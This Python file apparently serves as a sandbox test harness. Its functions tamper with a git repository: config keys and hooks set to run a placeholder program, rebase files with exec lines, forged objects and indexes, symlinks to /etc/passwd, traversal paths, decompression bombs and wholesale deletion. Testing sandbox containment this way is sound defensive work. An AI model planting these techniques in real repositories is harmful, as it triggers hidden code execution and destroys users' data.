"""Attacks on a repository from inside a sandbox: `python git_attacks.py NAME EVIL` in its work tree.

EVIL is a program that no git outside the sandbox may run. Every function is one attack, or a few of a kind.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

SETTINGS = (
    "core.fsmonitor={evil}",
    "core.pager={evil}",
    "pager.log={evil}",
    "core.editor={evil}",
    "sequence.editor={evil}",
    "core.hooksPath=src",
    "core.sshCommand={evil}",
    "core.askPass={evil}",
    "core.gitProxy={evil}",
    "core.attributesFile=src/attributes",
    "core.excludesFile=src/ignored",
    "core.worktree=/tmp",
    "core.bare=true",
    "core.alternateRefsCommand={evil}",
    "diff.external={evil}",
    "diff.e.textconv={evil}",
    "diff.e.command={evil}",
    "filter.e.clean={evil}",
    "filter.e.smudge={evil}",
    "filter.e.process={evil}",
    "merge.e.driver={evil}",
    "mergetool.e.cmd={evil}",
    "gpg.program={evil}",
    "gpg.ssh.defaultKeyCommand={evil}",
    "alias.status=!{evil}",
    "alias.st=!{evil}",
    "include.path=../src/evil.inc",
    "includeIf.onbranch:main.path=../src/evil.inc",
    "credential.helper=!{evil}",
    "trailer.x.command={evil}",
    "uploadpack.packObjectsHook={evil}",
    "remote.origin.uploadpack={evil}",
    "remote.origin.receivepack={evil}",
    "remote.origin.url=ext::{evil}",
    "remote.origin.url=/tmp/elsewhere",
    "remote.origin.url=file:///tmp/elsewhere",
    "remote.origin.url=evil:///tmp/elsewhere",
    "remote.origin.push=:refs/heads/main",
    "remote.origin.fetch=+refs/none/*:refs/*",
    "remote.origin.fetch=+refs/heads/*:refs/heads/*",
    "remote.origin.fetch=+refs/heads/*:refs/remotes/other/*",
    "remote.origin.vcs=evil",
    "remote.origin.proxy=evil",
    "url./tmp/elsewhere.insteadOf=https://example.org/",
    "branch.main.remote=/tmp/elsewhere",
    "submodule.x.update=!{evil}",
    "protocol.ext.allow=always",
    "extensions.partialClone=origin",
    "extensions.worktreeConfig=true",
    "init.templateDir=src",
    "commit.template=src/evil.inc",
    "browser.x.cmd={evil}",
    "man.x.cmd={evil}",
    "web.browser={evil}",
    "instaweb.httpd={evil}",
    "sendemail.smtpServer={evil}",
    "fsck.skipList=src/evil.inc",
    "lfs.customtransfer.x.path={evil}",
)
HOOKS = (
    "pre-commit",
    "post-commit",
    "commit-msg",
    "post-index-change",
    "reference-transaction",
    "post-checkout",
    "fsmonitor-watchman",
)


def git(*words: str, given: bytes = b"", code: int | None = 0) -> bytes:
    ran = subprocess.run(("git", *words), input=given, capture_output=True)
    assert code is None or ran.returncode == code, ran.stderr
    return ran.stdout.strip()


@cache
def folder() -> Path:
    return Path(os.fsdecode(git("rev-parse", "--absolute-git-dir")))


def loose(content: bytes, name: str = "") -> str:
    """Write a loose object, under its own name or another one."""
    name = name or hashlib.sha1(content).hexdigest()
    file = folder() / "objects" / name[:2] / name[2:]
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(zlib.compress(content))
    return name


def object_of(kind: bytes, body: bytes) -> bytes:
    return b"%b %d\0%b" % (kind, len(body), body)


def staged(*names: bytes, mode: int = 0o100644) -> None:
    """Write an index with these names besides those that it has."""
    blob = bytes.fromhex(os.fsdecode(git("hash-object", "-w", "--stdin", given=b"evil\n")))
    rows = [row.partition(b"\t") for row in git("ls-files", "-z", "-s").split(b"\0")[:-1]]
    found = {name: (int(head[:6], 8), bytes.fromhex(head[7:47].decode())) for head, _, name in rows}
    found |= dict.fromkeys(names, (mode, blob))
    entries = b""
    for name, (kind, oid) in sorted(found.items()):
        entry = bytes(24) + struct.pack(">I", kind) + bytes(12) + oid + struct.pack(">H", len(name)) + name
        entries += entry + bytes(8 - len(entry) % 8)
    content = b"DIRC" + struct.pack(">II", 2, len(found)) + entries
    (folder() / "index").write_bytes(content + hashlib.sha1(content).digest())


def setting(value: str, evil: str) -> None:
    name, _, given = value.format(evil=evil).partition("=")
    git("config", name, given, code=None)
    with (folder() / "config").open("a") as file:  # even if git didn't write it
        section, _, rest = name.partition(".")
        middle, _, variable = rest.rpartition(".")
        title = f'{section} "{middle}"' if middle else section
        file.write(f"[{title}]\n\t{variable} = {given}\n")


def hook(name: str, evil: str) -> None:
    hooks = folder() / "hooks"
    try:
        if hooks.is_symlink():
            hooks.unlink()
        hooks.mkdir(exist_ok=True)
        shutil.copy(evil, hooks / name)
    except OSError:
        pass


def a_false_object(evil: str) -> None:
    """The tree of HEAD gets another content."""
    tree = os.fsdecode(git("rev-parse", "HEAD^{tree}"))
    loose(object_of(b"tree", b""), tree)


def a_false_commit(evil: str) -> None:
    name = loose(object_of(b"commit", b"tree " + git("rev-parse", "HEAD^{tree}") + b"\n\nfalse\n"), "ab" * 20)
    (folder() / "refs/heads/false").write_text(f"{name}\n")


def a_commit_without_its_tree(evil: str) -> None:
    body = b"tree " + b"cd" * 20 + b"\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nx\n"
    name = loose(object_of(b"commit", body))
    (folder() / "refs/heads/main").write_text(f"{name}\n")


def a_tree_with_a_repository_in_it(evil: str) -> None:
    blob = git("hash-object", "-w", "--stdin", given=b"evil\n")
    hooks = loose(object_of(b"tree", b"100755 post-commit\0" + bytes.fromhex(blob.decode())))
    top = loose(object_of(b"tree", b"40000 .git\0" + bytes.fromhex(hooks)))
    body = f"tree {top}\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nx\n".encode()
    (folder() / "refs/heads/main").write_text(f"{loose(object_of(b'commit', body))}\n")


def a_pack_with_a_false_index(evil: str) -> None:
    name = git("hash-object", "-w", "--stdin", given=b"other\n")
    pack = git("pack-objects", str(folder() / "objects/pack/pack"), given=name + b"\n").decode()
    index = folder() / f"objects/pack/pack-{pack}.idx"
    index.chmod(0o644)
    content = index.read_bytes().replace(bytes.fromhex(name.decode()), git("rev-parse", "HEAD^{tree}")[:20])
    index.write_bytes(content)


def a_broken_pack(evil: str) -> None:
    (folder() / "objects/pack").mkdir(exist_ok=True)
    (folder() / f"objects/pack/pack-{'ab' * 20}.pack").write_bytes(b"PACK" + bytes(100))


def a_huge_object(evil: str) -> None:
    file = folder() / "objects/ab" / ("cd" * 19)
    file.parent.mkdir(exist_ok=True)
    with file.open("wb") as opened:
        opened.truncate(10_000_000_000)


def an_object_that_grows(evil: str) -> None:
    """A thousandth of its size on the disk."""
    packer = zlib.compressobj(9)
    file = folder() / "objects/ab" / ("ef" * 19)
    file.parent.mkdir(exist_ok=True)
    with file.open("wb") as opened:
        opened.write(packer.compress(b"blob 640000000\0"))
        for _ in range(40):
            opened.write(packer.compress(bytes(16_000_000)))
        opened.write(packer.flush())


def alternates_elsewhere(evil: str) -> None:
    (folder() / "objects/info/alternates").write_text("/tmp/elsewhere\n")
    (folder() / "objects/info/http-alternates").write_text("http://127.0.0.1:1/\n")


def refs_with_bad_names(evil: str) -> None:
    head = git("rev-parse", "HEAD").decode()
    with (folder() / "packed-refs").open("a") as file:
        for name in ("refs/../../config", "refs/heads/../../hooks/x", "refs/heads/a..b", "/x", "refs/.x"):
            file.write(f"{head} {name}\n")
    for name in ("-x", "a.lock", "x y"):
        (folder() / "refs/heads" / name).write_text(f"{head}\n")


def refs_that_lie(evil: str) -> None:
    empty = loose(object_of(b"tree", b""))
    body = f"tree {empty}\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nlie\n".encode()
    lie = loose(object_of(b"commit", body))
    replaced = folder() / "refs/replace"
    replaced.mkdir(exist_ok=True)
    (replaced / git("rev-parse", "HEAD").decode()).write_text(f"{lie}\n")
    (folder() / "info").mkdir(exist_ok=True)
    (folder() / "info/grafts").write_text(f"{git('rev-parse', 'HEAD').decode()} {lie}\n")
    (folder() / "shallow").write_bytes(git("rev-parse", "HEAD") + b"\n")


def a_head_that_names_a_path(evil: str) -> None:
    (folder() / "HEAD").write_text("ref: ../../../../etc/passwd\n")


def a_head_that_names_a_setting(evil: str) -> None:
    (folder() / "HEAD").write_text("ref: config\n")


def a_head_that_is_a_link(evil: str) -> None:
    (folder() / "HEAD").unlink()
    (folder() / "HEAD").symlink_to("refs/../config")


def a_ref_that_is_a_link(evil: str) -> None:
    (folder() / "refs/heads").mkdir(parents=True, exist_ok=True)
    (folder() / "refs/heads/link").symlink_to("/etc/passwd")
    (folder() / "refs/remotes").symlink_to("/etc")


def folders_that_are_links(evil: str) -> None:
    for name in ("logs", "info", "objects/pack", "rebase-merge"):
        path = folder() / name
        shutil.rmtree(path, ignore_errors=True)
        path.symlink_to("/etc")


def pipes(evil: str) -> None:
    for name in ("index", "ORIG_HEAD", "packed-refs", "config", "objects/ab"):
        path = folder() / name
        path.unlink(missing_ok=True)
        os.mkfifo(path)


def staged_paths_in_the_repository(evil: str) -> None:
    staged(b".git/config", b".git/hooks/post-commit", mode=0o100755)


def staged_paths_outside(evil: str) -> None:
    staged(b"../x", b"/etc/x", b"a//b", b"./c")


def staged_paths_by_other_names(evil: str) -> None:
    staged(b".GIT/config", b"git~1/config", ".g\u200cit/config".encode())


def a_staged_device(evil: str) -> None:
    staged(b"src/a", mode=0o020666)


def staged_contents_that_are_missing(evil: str) -> None:
    git("update-index", "--add", "--cacheinfo", f"100644,{'ab' * 20},none")


def a_staged_repository_among_packages(evil: str) -> None:
    inner = Path("node_modules/inner")
    git("init", "-q", str(inner))
    git(
        "-C",
        str(inner),
        "-c",
        "user.name=e",
        "-c",
        "user.email=e",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "e",
    )
    with (inner / ".git/config").open("a") as file:
        file.write(f"[core]\n\tfsmonitor = {evil}\n")
    git("-c", "core.fsmonitor=", "add", "-f", str(inner))


def an_index_that_is_cut(evil: str) -> None:
    path = folder() / "index"
    path.write_bytes(path.read_bytes()[:70])


def an_index_that_promises_more(evil: str) -> None:
    content = b"DIRC" + struct.pack(">II", 2, 4_000_000_000)
    (folder() / "index").write_bytes(content + hashlib.sha1(content).digest())


def an_index_that_hides_changes(evil: str) -> None:
    """The changed file gets the mark of unchanged ones, and times that make git believe it."""
    Path("src/a").write_text("two\n")
    git("update-index", "--assume-unchanged", "src/a")
    git("update-index", "--skip-worktree", "src/a")


def a_split_index(evil: str) -> None:
    git("update-index", "--split-index", code=None)


def a_rebase_that_runs_something(evil: str) -> None:
    series = folder() / "rebase-merge"
    series.mkdir()
    head = git("rev-parse", "HEAD").decode()
    files = {"git-rebase-todo": f"exec {evil}\nx {evil}\n", "done": "", "onto": head, "orig-head": head}
    files |= {"head-name": "refs/heads/main", "msgnum": "1", "end": "2", "interactive": ""}
    for name, text in files.items():
        (series / name).write_text(text)


def a_rebase_with_a_strategy_of_its_own(evil: str) -> None:
    a_rebase_that_runs_something(evil)
    series = folder() / "rebase-merge"
    (series / "git-rebase-todo").write_text("pick HEAD x\n")
    (series / "strategy").write_text("../../src/evil.sh\n")


def an_author_that_runs_something(evil: str) -> None:
    a_rebase_that_runs_something(evil)
    series = folder() / "rebase-merge"
    (series / "git-rebase-todo").write_text("pick HEAD x\n")
    (series / "author-script").write_text(f"GIT_AUTHOR_NAME=$({evil})\n")


def picks_that_sign(evil: str) -> None:
    series = folder() / "sequencer"
    series.mkdir()
    (series / "todo").write_text("pick HEAD x\n")
    (series / "opts").write_text(f"[options]\n\tgpg-sign = {evil}\n")


def a_bisect_that_runs_something(evil: str) -> None:
    (folder() / "BISECT_START").write_text("--upload-pack=x\n")
    (folder() / "BISECT_NAMES").write_text(f" '$({evil})' ; {evil}\n")
    (folder() / "BISECT_LOG").write_text(f"{evil}\n")


def another_common_folder(evil: str) -> None:
    (folder() / "commondir").write_text("/tmp/elsewhere\n")
    (folder() / "gitdir").write_text("/tmp/elsewhere\n")


def attributes(evil: str) -> None:
    (folder() / "info").mkdir(exist_ok=True)
    (folder() / "info/attributes").write_text("* filter=e diff=e merge=e\n")
    (folder() / "config.worktree").write_text(f"[core]\n\tfsmonitor = {evil}\n")


def a_repository_that_is_moved(evil: str) -> None:
    own = Path(".git")
    for action in (lambda: own.rename(".git2"), lambda: shutil.rmtree(own), own.unlink):
        try:
            action()
            own.symlink_to("src")
        except OSError:
            pass


def a_work_tree_elsewhere(evil: str) -> None:
    linked = folder() / "worktrees/x"
    linked.mkdir(parents=True)
    (linked / "HEAD").write_text("ref: refs/heads/main\n")
    (linked / "commondir").write_text("/tmp/elsewhere\n")
    (linked / "gitdir").write_text("/etc/.git\n")
    (linked / "config.worktree").write_text(f"[core]\n\tfsmonitor = {evil}\n")


def a_work_tree_whose_name_leads_out(evil: str) -> None:
    git("worktree", "add", "-q", "wt", "-b", "wt")
    inner = Path(Path("wt/.git").read_text().partition(": ")[2].strip())
    (inner / "gitdir").write_text(f"{Path.cwd()}/src/../../x/.git\n")


def a_work_tree_that_is_a_link(evil: str) -> None:
    git("worktree", "add", "-q", "wt", "-b", "wt")
    shutil.rmtree("wt")
    Path("wt").symlink_to("/etc")


def a_submodule(evil: str) -> None:
    inner = folder() / "modules/x"
    try:
        inner.mkdir(parents=True)
        subprocess.run(("git", "init", "-q", "--bare", str(inner)))
        (inner / "config").write_text(f"[core]\n\tfsmonitor = {evil}\n\tworktree = ../../../src\n")
    except OSError:
        pass


def reflogs_that_are_none(evil: str) -> None:
    (folder() / "logs/HEAD").write_text("\x1b[31mnothing\n")
    (folder() / "logs/refs/heads").mkdir(parents=True, exist_ok=True)
    (folder() / "logs/refs/heads/other").symlink_to("/etc/passwd")


def a_lock_that_stays(evil: str) -> None:
    for name in ("index.lock", "HEAD.lock", "config.lock", "packed-refs.lock", "refs/heads/main.lock"):
        (folder() / name).parent.mkdir(exist_ok=True)
        (folder() / name).touch()


def very_many_refs(evil: str) -> None:
    head = git("rev-parse", "HEAD").decode()
    with (folder() / "packed-refs").open("a") as file:
        for number in range(20_000):
            file.write(f"{head} refs/heads/many/{number:05}\n")


def a_deep_folder(evil: str) -> None:
    path = folder() / "refs/heads"
    for _ in range(300):
        path /= "d"
    path.mkdir(parents=True)


def the_whole_repository_gone(evil: str) -> None:
    for path in folder().iterdir():
        try:
            shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
        except OSError:
            pass


def names() -> Iterator[str]:
    """Every attack."""
    yield from (f"setting {each}" for each in SETTINGS)
    yield from (f"hook {each}" for each in HOOKS)
    own = (cache, names, git, folder, loose, object_of, staged, setting, hook)
    for name, each in globals().items():
        if callable(each) and getattr(each, "__module__", "") == __name__ and each not in own:
            yield name


if __name__ == "__main__":
    attack, program = sys.argv[1:]
    kind, _, given = attack.partition(" ")
    folder()
    if given:
        {"setting": setting, "hook": hook}[kind](given, program)
    else:
        found: Callable[[str], None] = globals()[kind]
        found(program)
